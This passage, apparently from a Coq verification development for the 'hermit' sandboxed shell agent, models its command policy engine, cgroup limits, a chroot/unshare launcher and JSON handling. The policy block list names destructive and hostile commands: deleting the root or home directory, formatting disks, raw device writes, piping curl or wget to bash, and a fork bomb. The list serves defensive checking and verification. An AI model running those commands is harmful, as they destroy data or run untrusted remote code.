(* Verification development for hermit: the policy engine (hermit/policy.py),
   the action model (hermit/actions.py), the planner contract
   (hermit/planner.py), the plan executor (hermit/executor.py), the sandbox
   launcher (hermit/agent.py) and the cgroup setup (hermit/cgroups.py).

   Python text is modelled as Stdlib [string]: one [ascii] is one code point
   in the range 0..255 (Latin-1).  Python's [str.lower], [str.isspace] and the
   regular-expression class [\s] are modelled on that range. *)

From Stdlib Require Import String Ascii List Bool ZArith Lia.
Import ListNotations.
Open Scope bool_scope.

(* ------------------------------------------------------------------------- *)
(** * Python string primitives *)

Module PyStr.

Local Open Scope string_scope.

(** [str.isspace] on one code point of 0..255: TAB..CR, the four
    separators 0x1C..0x1F, SPACE, NEL (0x85) and NBSP (0xA0).  The regular
    expression class [\s] of a [str] pattern is the same set. *)
Definition is_space (c : ascii) : bool :=
  let n := nat_of_ascii c in
  (Nat.leb 9 n && Nat.leb n 13) || (Nat.leb 28 n && Nat.leb n 32)
  || Nat.eqb n 133 || Nat.eqb n 160.

(** [str.lower] on one code point: A..Z and the Latin-1 capitals
    0xC0..0xDE except the multiplication sign 0xD7. *)
Definition lower_char (c : ascii) : ascii :=
  let n := nat_of_ascii c in
  if (Nat.leb 65 n && Nat.leb n 90)
     || (Nat.leb 192 n && Nat.leb n 222 && negb (Nat.eqb n 215))
  then ascii_of_nat (n + 32) else c.

Fixpoint lower (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c s' => String (lower_char c) (lower s')
  end.

Fixpoint all_space (s : string) : bool :=
  match s with
  | EmptyString => true
  | String c s' => is_space c && all_space s'
  end.

Fixpoint lstrip (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c s' => if is_space c then lstrip s' else s
  end.

Fixpoint rstrip (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c s' =>
      let r := rstrip s' in
      match r with
      | EmptyString => if is_space c then EmptyString else String c EmptyString
      | _ => String c r
      end
  end.

(** [str.strip()] with no argument. *)
Definition strip (s : string) : string := rstrip (lstrip s).

(** [needle in haystack]. *)
Fixpoint contains (needle hay : string) : bool :=
  if String.prefix needle hay then true
  else match hay with
       | EmptyString => false
       | String _ h => contains needle h
       end.

(** [str.startswith]. *)
Definition startswith (s p : string) : bool := String.prefix p s.

(** [str.split()] with no argument: runs of whitespace separate the
    words, empty words are dropped. *)
Fixpoint split_ws_aux (cur : string) (s : string) : list string :=
  match s with
  | EmptyString => match cur with EmptyString => [] | _ => [cur] end
  | String c s' =>
      if is_space c then
        match cur with
        | EmptyString => split_ws_aux EmptyString s'
        | _ => cur :: split_ws_aux EmptyString s'
        end
      else split_ws_aux (cur ++ String c EmptyString) s'
  end.

Definition split_ws (s : string) : list string := split_ws_aux EmptyString s.

(** [str.split(sep)] for a one-character separator. *)
Fixpoint split_char_aux (sep : ascii) (cur : string) (s : string) : list string :=
  match s with
  | EmptyString => [cur]
  | String c s' =>
      if Ascii.eqb c sep then cur :: split_char_aux sep EmptyString s'
      else split_char_aux sep (cur ++ String c EmptyString) s'
  end.

Definition split_char (sep : ascii) (s : string) : list string :=
  split_char_aux sep EmptyString s.

(** [sep.join(parts)]. *)
Fixpoint join (sep : string) (parts : list string) : string :=
  match parts with
  | [] => EmptyString
  | [p] => p
  | p :: ps => p ++ sep ++ join sep ps
  end.

(** [s.replace(old, new)] for a non-empty [old]: left to right,
    non-overlapping. *)
Fixpoint replace_aux (fuel : nat) (old new s : string) : string :=
  match fuel with
  | O => s
  | S f =>
      match s with
      | EmptyString => EmptyString
      | String c s' =>
          if String.prefix old s then
            new ++ replace_aux f old new
                      (substring (String.length old)
                                 (String.length s - String.length old) s)
          else String c (replace_aux f old new s')
      end
  end.

Definition replace (old new s : string) : string :=
  replace_aux (S (String.length s)) old new s.

(** [str(n)] for a Python [int]. *)
Definition digit (n : nat) : ascii := ascii_of_nat (48 + n).

Fixpoint pos_digits (fuel : nat) (z : Z) (acc : string) : string :=
  match fuel with
  | O => acc
  | S f =>
      let acc' := String (digit (Z.to_nat (Z.modulo z 10))) acc in
      if Z.ltb z 10 then acc' else pos_digits f (Z.div z 10) acc'
  end.

(** The binary length of [p] bounds its number of decimal digits. *)
Definition str_int (z : Z) : string :=
  match z with
  | Z0 => "0"
  | Zpos p => pos_digits (Pos.size_nat p) z EmptyString
  | Zneg p => "-" ++ pos_digits (Pos.size_nat p) (Zpos p) EmptyString
  end.

End PyStr.

(* ------------------------------------------------------------------------- *)
(** * Regular expressions of Python's [re], as far as the policy uses them *)

Module Regex.

Import PyStr.
Local Open Scope string_scope.

Inductive regex : Type :=
| REps
| RChr (p : ascii -> bool)
| RCat (r1 r2 : regex)
| RAlt (r1 r2 : regex)
| RStar (r : regex)
| REnd.

(** [$] without MULTILINE: at the end, or before a final newline. *)
Definition at_end (s : string) : bool :=
  match s with
  | EmptyString => true
  | String c EmptyString => Ascii.eqb c "010"%char
  | _ => false
  end.

(** All remainders of [s] after a match of [r] at the start of [s].
    A backtracking matcher finds a match exactly when this list is not
    empty; iterations of a star that consume nothing are dropped, which
    does not change the set of remainders. *)
Fixpoint rests (r : regex) (s : string) {struct r} : list string :=
  match r with
  | REps => [s]
  | RChr p =>
      match s with
      | String c s' => if p c then [s'] else []
      | EmptyString => []
      end
  | RCat r1 r2 => flat_map (rests r2) (rests r1 s)
  | RAlt r1 r2 => rests r1 s ++ rests r2 s
  | REnd => if at_end s then [s] else []
  | RStar r1 =>
      let fix star (n : nat) (s : string) : list string :=
        match n with
        | O => [s]
        | S n' =>
            s :: flat_map
                   (fun s' => if Nat.ltb (String.length s') (String.length s)
                              then star n' s' else [])
                   (rests r1 s)
        end
      in star (S (String.length s)) s
  end.

Definition matches_at (r : regex) (s : string) : bool :=
  match rests r s with [] => false | _ => true end.

(** [re.search(r, s) is not None]: a match starting at some position. *)
Fixpoint search (r : regex) (s : string) : bool :=
  match s with
  | EmptyString => matches_at r s
  | String _ s' => matches_at r s || search r s'
  end.

(** Building blocks. *)
Fixpoint lit (s : string) : regex :=
  match s with
  | EmptyString => REps
  | String c s' => RCat (RChr (Ascii.eqb c)) (lit s')
  end.

Fixpoint seq (rs : list regex) : regex :=
  match rs with
  | [] => REps
  | [r] => r
  | r :: rs' => RCat r (seq rs')
  end.

Definition plus (r : regex) : regex := RCat r (RStar r).
Definition opt (r : regex) : regex := RAlt r REps.
(** [\s], [\S], [.] and a class of characters [[...]]. *)
Definition ws : regex := RChr is_space.
Definition nonws : regex := RChr (fun c => negb (is_space c)).
Definition dot : regex := RChr (fun c => negb (Ascii.eqb c "010"%char)).
Fixpoint in_class (cls : string) (c : ascii) : bool :=
  match cls with
  | EmptyString => false
  | String d cls' => Ascii.eqb c d || in_class cls' c
  end.
Definition cls (s : string) : regex := RChr (in_class s).

End Regex.

(* ------------------------------------------------------------------------- *)
(** * Policy engine: hermit/policy.py *)

Module Policy.

Import PyStr Regex.
Local Open Scope string_scope.

Inductive RiskLevel := LOW | MEDIUM | HIGH | BLOCKED.

Definition risk_value (r : RiskLevel) : string :=
  match r with
  | LOW => "low" | MEDIUM => "medium" | HIGH => "high" | BLOCKED => "blocked"
  end.

Record PolicyResult := mkPolicyResult {
  allowed : bool;
  risk : RiskLevel;
  reason : string
}.

(** r"rm\s+(-[rf]+\s+)?/($|\s)" *)
Definition p_root : regex :=
  seq [lit "rm"; plus ws; opt (seq [lit "-"; plus (cls "rf"); plus ws]);
       lit "/"; RAlt REnd ws].
(** r"rm\s+-[rf]*\s+~/?$" *)
Definition p_home : regex :=
  seq [lit "rm"; plus ws; lit "-"; RStar (cls "rf"); plus ws; lit "~";
       opt (lit "/"); REnd].
(** r"curl.*\|\s*(sudo\s+)?bash" and its wget twin *)
Definition p_pipe (tool : string) : regex :=
  seq [lit tool; RStar dot; lit "|"; RStar ws; opt (seq [lit "sudo"; plus ws]);
       lit "bash"].

Definition BLOCKED_PATTERNS : list (regex * string) := [
  (p_root, "Cannot delete root filesystem");
  (p_home, "Cannot delete home directory");
  (lit "mkfs.", "Cannot format filesystems");
  (seq [lit "dd"; plus ws; RStar dot; lit "of=/dev/"],
     "Cannot write directly to devices");
  (seq [lit "chmod"; plus ws; lit "777"; plus ws; lit "/"],
     "Cannot open permissions on root");
  (p_pipe "curl", "Cannot pipe curl to bash");
  (p_pipe "wget", "Cannot pipe wget to bash");
  (seq [lit ">"; RStar ws; lit "/etc/"], "Cannot overwrite system config");
  (seq [lit "sudo"; plus ws; lit "rm"], "Cannot use sudo rm");
  (seq [lit ":(){"; RStar dot; lit "}"], "Fork bomb detected")
].

Definition HIGH_RISK_PATTERNS : list (regex * string) := [
  (seq [lit "rm"; plus ws; lit "-"; cls "rf"], "Recursive/forced delete");
  (seq [lit "rm"; plus ws; RStar dot; lit "*"], "Wildcard delete");
  (seq [lit "mv"; plus ws; RStar dot; plus ws; lit "/dev/null"],
     "Moving files to /dev/null");
  (seq [lit "chmod"; plus ws; lit "-R"], "Recursive permission change");
  (seq [lit "chown"; plus ws; lit "-R"], "Recursive ownership change");
  (seq [lit "find"; RStar dot; lit "-delete"], "Find with delete");
  (seq [lit "find"; RStar dot; lit "-exec"; RStar dot; lit "rm"],
     "Find with rm exec")
].

Definition p_rm : regex := seq [lit "rm"; plus ws].

Definition MEDIUM_RISK_PATTERNS : list (regex * string) := [
  (p_rm, "Deleting files");
  (seq [lit "mv"; plus ws], "Moving files");
  (seq [lit "cp"; plus ws], "Copying files");
  (lit "mkdir", "Creating directories");
  (lit "touch", "Creating files");
  (seq [lit "echo"; plus ws; RStar dot; lit ">"; RStar ws; plus nonws],
     "Writing to file");
  (seq [lit ">"; RStar ws; plus nonws], "Writing to file");
  (seq [lit ">>"; RStar ws; plus nonws], "Appending to file")
].

Definition get_blocked_patterns : list (regex * string) := BLOCKED_PATTERNS.

(** The reason of the first pattern of [pats] found in [s]. *)
Fixpoint first_match (pats : list (regex * string)) (s : string) : option string :=
  match pats with
  | [] => None
  | (p, why) :: rest => if search p s then Some why else first_match rest s
  end.

(** [check_command]; [confirm_delete] is the truthiness of the safety
    setting [require_confirmation_for_delete] read from the configuration. *)
Definition check_command (confirm_delete : bool) (command : string) : PolicyResult :=
  let command_lower := strip (lower command) in
  match first_match get_blocked_patterns command_lower with
  | Some why => mkPolicyResult false BLOCKED why
  | None =>
      match first_match HIGH_RISK_PATTERNS command_lower with
      | Some why => mkPolicyResult true HIGH why
      | None =>
          match first_match MEDIUM_RISK_PATTERNS command_lower with
          | Some why =>
              if confirm_delete && search p_rm command_lower
              then mkPolicyResult true HIGH (why ++ " (confirmation required)")
              else mkPolicyResult true MEDIUM why
          | None => mkPolicyResult true LOW "Read-only operation"
          end
      end
  end.

(** Some blocked pattern is found in [s]. *)
Definition blocked_match (s : string) : bool :=
  existsb (fun pr => search (fst pr) s) BLOCKED_PATTERNS.

End Policy.


(* ------------------------------------------------------------------------- *)
(** * Cgroup setup: hermit/cgroups.py *)

Module Cgroups.

Import PyStr.
Local Open Scope string_scope.

(** Filesystem operations, in the order the code performs them. *)
Inductive FsOp :=
| Mkdir (path : string)
| WriteText (path content : string).

Definition CGROUP_NAME : string := "hermit-sandbox".
Definition CGROUP_PATH : string := "/sys/fs/cgroup/" ++ CGROUP_NAME.

(** [Path / name]. *)
Definition path_join (p name : string) : string := p ++ "/" ++ name.

(** [setup_cgroup]; [subtree_exists] is the answer of
    [parent_subtree.exists()]. *)
Definition setup_cgroup (subtree_exists : bool)
    (memory_max_mb cpu_quota_percent pids_max : Z) : list FsOp :=
  let parent_subtree := "/sys/fs/cgroup/cgroup.subtree_control" in
  let memory_bytes := (memory_max_mb * 1024 * 1024)%Z in
  let quota_us := (cpu_quota_percent * 1000)%Z in
  [Mkdir CGROUP_PATH]
  ++ (if subtree_exists then [WriteText parent_subtree "+cpu +memory +pids"] else [])
  ++ [WriteText (path_join CGROUP_PATH "memory.max") (str_int memory_bytes);
      WriteText (path_join CGROUP_PATH "memory.swap.max") "0";
      WriteText (path_join CGROUP_PATH "cpu.max") (str_int quota_us ++ " 100000");
      WriteText (path_join CGROUP_PATH "pids.max") (str_int pids_max)].

(** The content last written to [path], if any. *)
Fixpoint written (ops : list FsOp) (path : string) : option string :=
  match ops with
  | [] => None
  | Mkdir _ :: rest => written rest path
  | WriteText p c :: rest =>
      match written rest path with
      | Some c' => Some c'
      | None => if String.eqb p path then Some c else None
      end
  end.

End Cgroups.

(* ------------------------------------------------------------------------- *)
(** * Sandbox launcher: [execute_sandboxed] of hermit/agent.py *)

Module Agent.

Import PyStr.
Local Open Scope string_scope.

Definition nl : string := String "010" EmptyString.

Definition SANDBOX_ROOT : string := "/home/ubuntu/sandbox-root".

(** The shell script handed to [bash -c]; the backslash-newline pairs of
    the Python literal are line continuations and vanish. *)
Definition wrapper_command (cgroup_path command : string) : string :=
  nl ++ "        echo $$ > " ++ cgroup_path ++ "/cgroup.procs" ++ nl
  ++ "        exec unshare --mount --pid --fork --mount-proc "
  ++ "            chroot " ++ SANDBOX_ROOT ++ " "
  ++ "            /usr/bin/python3 /sandbox/sandbox_wrapper.py '"
  ++ replace "'" ("'" ++ String (ascii_of_nat 34) "'" ++ String (ascii_of_nat 34) "'") command
  ++ "'" ++ nl ++ "    ".

(** Who a signal is sent to: the spawned process itself, or its process
    group. *)
Inductive SignalTarget := ChildPid | ChildGroup.

(** Process operations of [subprocess.Popen], in order. *)
Inductive ProcOp :=
| Spawn (argv : list string)
| Communicate (timeout : option Z)
| SendSignal (target : SignalTarget) (signum : nat).

(** What the first [communicate(timeout=...)] call observes. *)
Inductive CommOutcome :=
| Completed (stdout stderr : string)
| TimedOut.

Definition SIGKILL : nat := 9.

(** [execute_sandboxed]: [cfg_timeout] is [cgroup_cfg.get('timeout_seconds')]
    (an integer number of seconds, when present).  [Popen.kill()] sends
    SIGKILL to the child's pid. *)
Definition execute_sandboxed (cfg_timeout : option Z) (command : string)
    (outcome : CommOutcome) : string * list ProcOp :=
  let timeout := match cfg_timeout with Some t => t | None => 30%Z end in
  let cgroup_path := "/sys/fs/cgroup/hermit-sandbox" in
  let spawn := Spawn ["bash"; "-c"; wrapper_command cgroup_path command] in
  match outcome with
  | Completed out err => (out ++ err, [spawn; Communicate (Some timeout)])
  | TimedOut =>
      ("Command timed out after " ++ str_int timeout ++ " seconds",
       [spawn; Communicate (Some timeout); SendSignal ChildPid SIGKILL;
        Communicate None])
  end.

End Agent.


(* ------------------------------------------------------------------------- *)
(** * JSON values, Python's [json.loads] and [json.dumps], and the Python
      operations the code applies to decoded values *)

Module Json.

Import PyStr.
Local Open Scope string_scope.

(** Decoded JSON.  Objects are Python dicts: insertion-ordered, one entry
    per key.  Numbers are Python ints; a number with a fraction or an
    exponent (a Python float), NaN and Infinity are outside the model. *)
Set Warnings "-register-all".
Inductive json : Type :=
| JNull
| JBool (b : bool)
| JInt (z : Z)
| JStr (s : string)
| JArr (l : list json)
| JObj (kvs : list (string * json)).

(** Python exceptions the modelled code can raise. *)
Inductive PyExc := JSONDecodeError | AttributeError | TypeError | KeyError.

Definition PyResult (A : Type) : Type := (PyExc + A)%type.

Definition ret {A} (a : A) : PyResult A := inr a.
Definition raise {A} (e : PyExc) : PyResult A := inl e.
Definition bind {A B} (m : PyResult A) (k : A -> PyResult B) : PyResult B :=
  match m with inl e => inl e | inr a => k a end.

Notation "x <- m ;; k" := (bind m (fun x => k))
  (at level 61, m at next level, right associativity).

Definition dq : ascii := "034".
Definition bs : ascii := "092".
Definition chr (n : nat) : string := String (ascii_of_nat n) EmptyString.

(** [d[k] = v] on a string-keyed dict. *)
Fixpoint obj_set (k : string) (v : json) (kvs : list (string * json)) :
    list (string * json) :=
  match kvs with
  | [] => [(k, v)]
  | (k', v') :: rest =>
      if String.eqb k k' then (k', v) :: rest else (k', v') :: obj_set k v rest
  end.

(** [d.get(k)]. *)
Fixpoint obj_get (k : string) (kvs : list (string * json)) : option json :=
  match kvs with
  | [] => None
  | (k', v) :: rest => if String.eqb k k' then Some v else obj_get k rest
  end.

Definition obj_get_default (k : string) (d : json) (kvs : list (string * json)) : json :=
  match obj_get k kvs with Some v => v | None => d end.

(** ** [json.loads] *)

Definition json_ws (c : ascii) : bool :=
  let n := nat_of_ascii c in
  Nat.eqb n 32 || Nat.eqb n 9 || Nat.eqb n 10 || Nat.eqb n 13.

Fixpoint skip_ws (s : string) : string :=
  match s with
  | String c s' => if json_ws c then skip_ws s' else s
  | EmptyString => EmptyString
  end.

Definition hex_val (c : ascii) : option nat :=
  let n := nat_of_ascii c in
  if Nat.leb 48 n && Nat.leb n 57 then Some (n - 48)
  else if Nat.leb 97 n && Nat.leb n 102 then Some (n - 87)
  else if Nat.leb 65 n && Nat.leb n 70 then Some (n - 55)
  else None.

(** The body of a string literal after its opening quote.  Control
    characters are refused (strict mode); a [\u] escape beyond 0xFF is
    outside the model. *)
Fixpoint parse_str (s : string) (acc : string) : option (string * string) :=
  match s with
  | EmptyString => None
  | String c s' =>
      if Ascii.eqb c dq then Some (acc, s')
      else if Ascii.eqb c bs then
        match s' with
        | EmptyString => None
        | String e s'' =>
            let n := nat_of_ascii e in
            if Nat.eqb n 34 || Nat.eqb n 92 || Nat.eqb n 47 then
              parse_str s'' (acc ++ String e EmptyString)
            else if Nat.eqb n 98 then parse_str s'' (acc ++ chr 8)
            else if Nat.eqb n 102 then parse_str s'' (acc ++ chr 12)
            else if Nat.eqb n 110 then parse_str s'' (acc ++ chr 10)
            else if Nat.eqb n 114 then parse_str s'' (acc ++ chr 13)
            else if Nat.eqb n 116 then parse_str s'' (acc ++ chr 9)
            else if Nat.eqb n 117 then
              match s'' with
              | String h1 (String h2 (String h3 (String h4 rest))) =>
                  match hex_val h1, hex_val h2, hex_val h3, hex_val h4 with
                  | Some a, Some b, Some c3, Some d =>
                      let code := a * 4096 + b * 256 + c3 * 16 + d in
                      if Nat.leb code 255 then parse_str rest (acc ++ chr code)
                      else None
                  | _, _, _, _ => None
                  end
              | _ => None
              end
            else None
        end
      else if Nat.ltb (nat_of_ascii c) 32 then None
      else parse_str s' (acc ++ String c EmptyString)
  end.

Definition is_digit (c : ascii) : bool :=
  Nat.leb 48 (nat_of_ascii c) && Nat.leb (nat_of_ascii c) 57.

Fixpoint digits_val (s : string) (acc : Z) : Z * string :=
  match s with
  | String c s' =>
      if is_digit c then digits_val s' (acc * 10 + Z.of_nat (nat_of_ascii c - 48))%Z
      else (acc, s)
  | EmptyString => (acc, s)
  end.

(** An optional minus, then 0 or a digit string not starting with 0; a
    following fraction or exponent makes a float,
    outside the model. *)
Definition parse_number (s : string) : option (json * string) :=
  let '(neg, s1) := match s with
                    | String c s' => if Ascii.eqb c "-" then (true, s') else (false, s)
                    | EmptyString => (false, s)
                    end in
  let r :=
    match s1 with
    | String c s' =>
        if Ascii.eqb c "0" then Some (0%Z, s')
        else if is_digit c then Some (digits_val s1 0%Z)
        else None
    | EmptyString => None
    end in
  match r with
  | None => None
  | Some (v, rest) =>
      match rest with
      | String c _ =>
          if Ascii.eqb c "." || Ascii.eqb c "e" || Ascii.eqb c "E" then None
          else Some (JInt (if neg then (- v)%Z else v), rest)
      | EmptyString => Some (JInt (if neg then (- v)%Z else v), rest)
      end
  end.

Fixpoint parse_value (n : nat) (s : string) : option (json * string) :=
  match n with
  | O => None
  | S n' =>
      match s with
      | EmptyString => None
      | String c r =>
          if Ascii.eqb c "{" then
            match skip_ws r with
            | String c2 r2 =>
                if Ascii.eqb c2 "}" then Some (JObj [], r2)
                else parse_members n' [] (skip_ws r)
            | EmptyString => None
            end
          else if Ascii.eqb c "[" then
            match skip_ws r with
            | String c2 r2 =>
                if Ascii.eqb c2 "]" then Some (JArr [], r2)
                else parse_elems n' [] (skip_ws r)
            | EmptyString => None
            end
          else if Ascii.eqb c dq then
            match parse_str r "" with
            | Some (v, rest) => Some (JStr v, rest)
            | None => None
            end
          else if String.prefix "null" s then Some (JNull, substring 4 (String.length s - 4) s)
          else if String.prefix "true" s then Some (JBool true, substring 4 (String.length s - 4) s)
          else if String.prefix "false" s then Some (JBool false, substring 5 (String.length s - 5) s)
          else parse_number s
      end
  end
with parse_members (n : nat) (acc : list (string * json)) (s : string) :
    option (json * string) :=
  match n with
  | O => None
  | S n' =>
      match s with
      | String c r =>
          if Ascii.eqb c dq then
            match parse_str r "" with
            | None => None
            | Some (k, r1) =>
                match skip_ws r1 with
                | String c1 r2 =>
                    if Ascii.eqb c1 ":" then
                      match parse_value n' (skip_ws r2) with
                      | None => None
                      | Some (v, r3) =>
                          let acc' := obj_set k v acc in
                          match skip_ws r3 with
                          | String c3 r4 =>
                              if Ascii.eqb c3 "," then parse_members n' acc' (skip_ws r4)
                              else if Ascii.eqb c3 "}" then Some (JObj acc', r4)
                              else None
                          | EmptyString => None
                          end
                      end
                    else None
                | EmptyString => None
                end
            end
          else None
      | EmptyString => None
      end
  end
with parse_elems (n : nat) (acc : list json) (s : string) : option (json * string) :=
  match n with
  | O => None
  | S n' =>
      match parse_value n' s with
      | None => None
      | Some (v, r) =>
          let acc' := app acc [v] in
          match skip_ws r with
          | String c r2 =>
              if Ascii.eqb c "," then parse_elems n' acc' (skip_ws r2)
              else if Ascii.eqb c "]" then Some (JArr acc', r2)
              else None
          | EmptyString => None
          end
      end
  end.

(** [json.loads(s)]: [None] is a [JSONDecodeError]. *)
Definition json_loads (s : string) : option json :=
  match parse_value (2 * String.length s + 2) (skip_ws s) with
  | Some (v, rest) =>
      match skip_ws rest with EmptyString => Some v | _ => None end
  | None => None
  end.

(** ** [json.dumps] with its defaults (ensure_ascii, ", " and ": ") *)

Definition hex_digit (n : nat) : ascii :=
  if Nat.ltb n 10 then ascii_of_nat (48 + n) else ascii_of_nat (87 + n).

Definition dump_char (c : ascii) : string :=
  let n := nat_of_ascii c in
  if Nat.eqb n 34 then String bs (String dq EmptyString)
  else if Nat.eqb n 92 then String bs (String bs EmptyString)
  else if Nat.eqb n 10 then String bs "n"
  else if Nat.eqb n 13 then String bs "r"
  else if Nat.eqb n 9 then String bs "t"
  else if Nat.eqb n 8 then String bs "b"
  else if Nat.eqb n 12 then String bs "f"
  else if Nat.ltb n 32 || Nat.leb 127 n then
    String bs (String "u" (String "0" (String "0"
      (String (hex_digit (n / 16)) (String (hex_digit (n mod 16)) EmptyString)))))
  else String c EmptyString.

Fixpoint dump_chars (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c s' => dump_char c ++ dump_chars s'
  end.

Definition dump_str (s : string) : string :=
  String dq (dump_chars s ++ String dq EmptyString).

Fixpoint dumps (j : json) : string :=
  match j with
  | JNull => "null"
  | JBool true => "true"
  | JBool false => "false"
  | JInt z => str_int z
  | JStr s => dump_str s
  | JArr l =>
      "[" ++ join ", " ((fix go (l : list json) : list string :=
                          match l with [] => [] | x :: xs => dumps x :: go xs end) l)
      ++ "]"
  | JObj kvs =>
      "{" ++ join ", " ((fix go (l : list (string * json)) : list string :=
                          match l with
                          | [] => []
                          | (k, v) :: xs => (dump_str k ++ ": " ++ dumps v) :: go xs
                          end) kvs)
      ++ "}"
  end.

End Json.


(* ------------------------------------------------------------------------- *)
(** * Python operations on decoded values: [str()], [repr()], truth value,
      iteration and dict keys *)

Module PyVal.

Import PyStr Json.
Local Open Scope string_scope.

Definition printable (c : ascii) : bool :=
  let n := nat_of_ascii c in
  (Nat.leb 32 n && Nat.leb n 126) || (Nat.leb 161 n && negb (Nat.eqb n 173)).

Definition hex2 (n : nat) : string :=
  String (hex_digit (n / 16)) (String (hex_digit (n mod 16)) EmptyString).

(** [repr()] of a [str]: single quotes unless the text has a single quote
    and no double quote. *)
Definition repr_str (s : string) : string :=
  let q : ascii := if contains "'" s && negb (contains (String dq EmptyString) s)
                   then dq else "'"%char in
  let fix esc (s : string) : string :=
    match s with
    | EmptyString => EmptyString
    | String c s' =>
        let n := nat_of_ascii c in
        (if Nat.eqb n 92 then String bs (String bs EmptyString)
         else if Ascii.eqb c q then String bs (String q EmptyString)
         else if Nat.eqb n 9 then String bs "t"
         else if Nat.eqb n 10 then String bs "n"
         else if Nat.eqb n 13 then String bs "r"
         else if printable c then String c EmptyString
         else String bs (String "x" (hex2 n))) ++ esc s'
    end in
  String q (esc s ++ String q EmptyString).

Fixpoint py_repr (j : json) : string :=
  match j with
  | JNull => "None"
  | JBool true => "True"
  | JBool false => "False"
  | JInt z => str_int z
  | JStr s => repr_str s
  | JArr l =>
      "[" ++ join ", " ((fix go (l : list json) : list string :=
                          match l with [] => [] | x :: xs => py_repr x :: go xs end) l)
      ++ "]"
  | JObj kvs =>
      "{" ++ join ", " ((fix go (l : list (string * json)) : list string :=
                          match l with
                          | [] => []
                          | (k, v) :: xs => (repr_str k ++ ": " ++ py_repr v) :: go xs
                          end) kvs)
      ++ "}"
  end.

(** [str()], which is also what an f-string inserts. *)
Definition py_str (j : json) : string :=
  match j with
  | JStr s => s
  | _ => py_repr j
  end.

(** The truth value of [if x:]. *)
Definition truthy (j : json) : bool :=
  match j with
  | JNull => false
  | JBool b => b
  | JInt z => negb (Z.eqb z 0)
  | JStr s => negb (String.eqb s "")
  | JArr l => match l with [] => false | _ => true end
  | JObj kvs => match kvs with [] => false | _ => true end
  end.

Fixpoint chars (s : string) : list json :=
  match s with
  | EmptyString => []
  | String c s' => JStr (String c EmptyString) :: chars s'
  end.

(** [for x in j]: a list gives its items, a str its characters, a dict its
    keys; anything else is not iterable. *)
Definition py_iter (j : json) : PyResult (list json) :=
  match j with
  | JArr l => ret l
  | JStr s => ret (chars s)
  | JObj kvs => ret (map (fun kv => JStr (fst kv)) kvs)
  | _ => raise TypeError
  end.

(** Dict keys up to Python equality: [True == 1], [False == 0]; lists
    and dicts are unhashable. *)
Inductive pykey := KNone | KInt (z : Z) | KStr (s : string).

Definition pykey_eqb (a b : pykey) : bool :=
  match a, b with
  | KNone, KNone => true
  | KInt x, KInt y => Z.eqb x y
  | KStr x, KStr y => String.eqb x y
  | _, _ => false
  end.

Definition py_key (j : json) : PyResult pykey :=
  match j with
  | JNull => ret KNone
  | JBool b => ret (KInt (if b then 1 else 0)%Z)
  | JInt z => ret (KInt z)
  | JStr s => ret (KStr s)
  | _ => raise TypeError
  end.

(** A dict with [pykey] keys, in insertion order. *)
Fixpoint kset {V} (k : pykey) (v : V) (d : list (pykey * V)) : list (pykey * V) :=
  match d with
  | [] => [(k, v)]
  | (k', v') :: rest =>
      if pykey_eqb k k' then (k', v) :: rest else (k', v') :: kset k v rest
  end.

Fixpoint kget {V} (k : pykey) (d : list (pykey * V)) : option V :=
  match d with
  | [] => None
  | (k', v) :: rest => if pykey_eqb k k' then Some v else kget k rest
  end.

(** A dict with [str] keys, in insertion order (assigning to an existing
    key keeps its position). *)
Fixpoint sset (k v : string) (d : list (string * string)) : list (string * string) :=
  match d with
  | [] => [(k, v)]
  | (k', v') :: rest =>
      if String.eqb k k' then (k', v) :: rest else (k', v') :: sset k v rest
  end.

End PyVal.


(* ------------------------------------------------------------------------- *)
(** * Action model: hermit/actions.py *)

Module Actions.

Import PyStr Json PyVal.
Local Open Scope string_scope.

(** One constructor per dataclass; every field, [action] included, holds
    whatever value the JSON gave (the dataclasses do not check types). *)
Inductive Action :=
| ListFiles (action path all long : json)
| ReadFile (action path : json)
| CreateFile (action path content : json)
| DeleteFiles (action path pattern recursive : json)
| MoveFile (action source destination : json)
| OrganizeByType (action path : json)
| CreateDirectory (action path : json)
| FindFiles (action path pattern file_type : json)
| RunCommand (action command : json).

(** Turn every single quote of a text into a double quote (used to write
    literals that contain double quotes). *)
Fixpoint sq2dq (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c s' => String (if Ascii.eqb c "'" then dq else c) (sq2dq s')
  end.

Definition nl : string := chr 10.

Definition organize_script (path : string) : string :=
  "cd " ++ path ++ " && " ++ nl
  ++ "mkdir -p images documents audio video archives other &&" ++ nl
  ++ sq2dq "for f in *.jpg *.jpeg *.png *.gif *.webp; do [ -f '$f' ] && mv '$f' images/; done 2>/dev/null;" ++ nl
  ++ sq2dq "for f in *.pdf *.doc *.docx *.txt *.md; do [ -f '$f' ] && mv '$f' documents/; done 2>/dev/null;" ++ nl
  ++ sq2dq "for f in *.mp3 *.wav *.flac; do [ -f '$f' ] && mv '$f' audio/; done 2>/dev/null;" ++ nl
  ++ sq2dq "for f in *.mp4 *.mov *.avi; do [ -f '$f' ] && mv '$f' video/; done 2>/dev/null;" ++ nl
  ++ sq2dq "for f in *.zip *.tar *.gz; do [ -f '$f' ] && mv '$f' archives/; done 2>/dev/null;" ++ nl
  ++ "true".

(** [render()]: a [str] in every class but [RunCommand], which returns its
    [command] field whatever it holds; [CreateFile] calls [.replace] on its
    content, an [AttributeError] when that is not a [str]. *)
Definition render (a : Action) : PyResult json :=
  match a with
  | ListFiles _ path all long =>
      let flags := (if truthy all then "a" else "") ++ (if truthy long then "l" else "") in
      if String.eqb flags "" then ret (JStr ("ls " ++ py_str path))
      else ret (JStr ("ls -" ++ flags ++ " " ++ py_str path))
  | ReadFile _ path => ret (JStr ("cat " ++ py_str path))
  | CreateFile _ path content =>
      match content with
      | JStr c =>
          let escaped := replace "'" ("'" ++ String bs "'" ++ "'") c in
          ret (JStr ("echo '" ++ escaped ++ "' > " ++ py_str path))
      | _ => raise AttributeError
      end
  | DeleteFiles _ path pattern recursive =>
      if truthy pattern then
        if truthy recursive then
          ret (JStr ("find " ++ py_str path ++ " -name '" ++ py_str pattern ++ "' -delete"))
        else ret (JStr ("rm " ++ py_str path ++ "/" ++ py_str pattern))
      else if truthy recursive then ret (JStr ("rm -r " ++ py_str path))
      else ret (JStr ("rm " ++ py_str path))
  | MoveFile _ source destination =>
      ret (JStr ("mv " ++ py_str source ++ " " ++ py_str destination))
